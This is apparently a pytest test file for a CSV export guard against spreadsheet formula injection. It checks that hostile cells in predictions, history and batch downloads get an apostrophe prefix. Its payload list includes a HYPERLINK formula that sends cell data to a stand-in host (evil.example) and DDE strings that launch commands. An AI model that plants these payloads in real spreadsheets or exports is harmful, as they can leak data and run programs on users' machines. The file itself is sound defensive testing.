"""Spreadsheet formula injection: every CSV the project writes goes through one guard.

Writers: ``Store.export_predictions`` (to a path and to a stream), History's download
(``ui.tables.history_export``) and Batch label's download (``ui.tables.to_csv``). The JSON Lines
exports keep values exactly (not spreadsheets).
"""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path

import pytest
from helpers.store_factories import make_document, make_prediction

from longbert.results import PredictionError
from longbert.store import Store, spreadsheet_safe, write_csv
from longbert.store.csv_writer import FORMULA_TRIGGERS
from longbert.ui.tables import history_export, result_row, to_csv, to_jsonl

#: Payloads seen in the wild (OWASP's examples, DDE, hyperlinks) and the whitespace variants.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=2+3",
    "@SUM(1)",
    "-cmd|' /C calc'!A0",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "\0=1+2",
    "＝1+2",
    "-inf",
    "-0x1",
]
#: Plain numbers, which stay readable as numbers.
NUMBERS = ["-3.5", "+1", "-1", "-2e-3", "3", ".5", "1e5"]


def spreadsheet_would_run(cell: str) -> bool:
    """Whether a spreadsheet would read this parsed cell as a formula: it starts with a trigger
    and is not a plain number (what the guard promises never to write)."""
    if not cell or cell[0] not in FORMULA_TRIGGERS:
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return cell.lower().lstrip("+-") in ("inf", "infinity", "nan")


def assert_no_formula(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row in rows:
        for column, cell in row.items():
            assert not spreadsheet_would_run(cell), (column, cell)
    return rows


@pytest.mark.parametrize("payload", HOSTILE)
def test_formula_cells_get_an_apostrophe(payload: str) -> None:
    assert spreadsheet_safe(payload) == "'" + payload


@pytest.mark.parametrize("number", NUMBERS)
def test_plain_numbers_stay_numbers(number: str) -> None:
    assert spreadsheet_safe(number) == number
    assert spreadsheet_safe(float(number)) == float(number)


def test_other_values() -> None:
    assert spreadsheet_safe(None) == "" and spreadsheet_safe(True) is True
    assert spreadsheet_safe(-3) == -3 and spreadsheet_safe("plain text") == "plain text"
    assert spreadsheet_safe(-math.inf) == "'-inf" and spreadsheet_safe(math.nan) == "nan"
    assert spreadsheet_safe(["=1"]) == '["=1"]'  # JSON text starts with a bracket
    assert spreadsheet_safe("a=1") == "a=1"  # only the first character matters


def test_text_is_quoted_numbers_are_bare_and_a_separator_cannot_start_a_cell() -> None:
    buffer = io.StringIO(newline="")
    assert write_csv(buffer, ["name", "score", "note"], [
        {"name": "a;=1+2", "score": -3.5, "note": 'say "=1"'},
        {"name": "=1+2", "score": None, "extra": "ignored"},
    ]) == 2
    lines = buffer.getvalue().split("\r\n")
    assert lines[0] == "name,score,note"
    # A spreadsheet splitting on ";" still sees one quoted cell.
    assert lines[1] == '"a;=1+2",-3.5,"say ""=1"""'
    assert lines[2] == "\"'=1+2\",\"\",\"\""
    rows = assert_no_formula(buffer.getvalue())
    assert rows[0]["note"] == 'say "=1"'


@pytest.fixture
def hostile_store(tmp_path: Path) -> Store:
    """Predictions whose file name, zero-shot labels and correction note are formulas."""
    store = Store(f"sqlite:///{tmp_path / 'csv.sqlite'}")
    for i, payload in enumerate(HOSTILE[:6]):
        document = make_document(i, name=payload)
        labels = (HOSTILE[(i + 1) % 6], "-1")
        prediction = make_prediction(document, model=f"=model{i}", label=labels[i % 2],
                                     labels=labels, zero_shot=True)
        pid = store.save_prediction(prediction, document)
        store.add_correction(pid, labels[(i + 1) % 2], note=HOSTILE[(i + 2) % 6])
    return store


def test_store_export_defuses_every_cell(hostile_store: Store, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    assert hostile_store.export_predictions(path, "csv", include_text=True) == 6
    rows = assert_no_formula(path.read_text(encoding="utf-8"))
    assert [r["document_name"] for r in rows] == ["'" + p for p in HOSTILE[:6]]
    assert {r["correction_note"] for r in rows} == {"'" + p for p in HOSTILE[:6]}
    assert "-1" in {r["final_label"] for r in rows}  # a number-like label stays as it is
    buffer = io.StringIO(newline="")
    hostile_store.export_predictions(buffer, "csv")
    assert_no_formula(buffer.getvalue())
    # JSON Lines is not a spreadsheet format: values stay exact.
    records = [json.loads(line) for line in history_export(hostile_store, None, "jsonl").splitlines()]
    assert [r["document_name"] for r in records] == HOSTILE[:6]


def test_history_download_defuses_every_cell(hostile_store: Store) -> None:
    rows = assert_no_formula(history_export(hostile_store, None, "csv").decode("utf-8-sig"))
    assert len(rows) == 6 and rows[0]["model"] == "'=model0"


def test_batch_download_defuses_every_cell() -> None:
    document = make_document(1, name="@SUM(1).txt")
    rows = [result_row(make_prediction(document, label="=2+3", labels=("=2+3", "b")),
                       prediction_id=1, correction="+cmd"),
            result_row(PredictionError("-cmd|' /C calc'!A0", "=HYPERLINK(\"x\")"))]
    parsed = assert_no_formula(to_csv(rows).decode("utf-8-sig"))
    assert [r["document"] for r in parsed] == ["'@SUM(1).txt", "'-cmd|' /C calc'!A0"]
    assert parsed[0]["final_label"] == "'+cmd" and parsed[1]["error"] == "'=HYPERLINK(\"x\")"
    assert json.loads(to_jsonl(rows).splitlines()[0])["label"] == "=2+3"
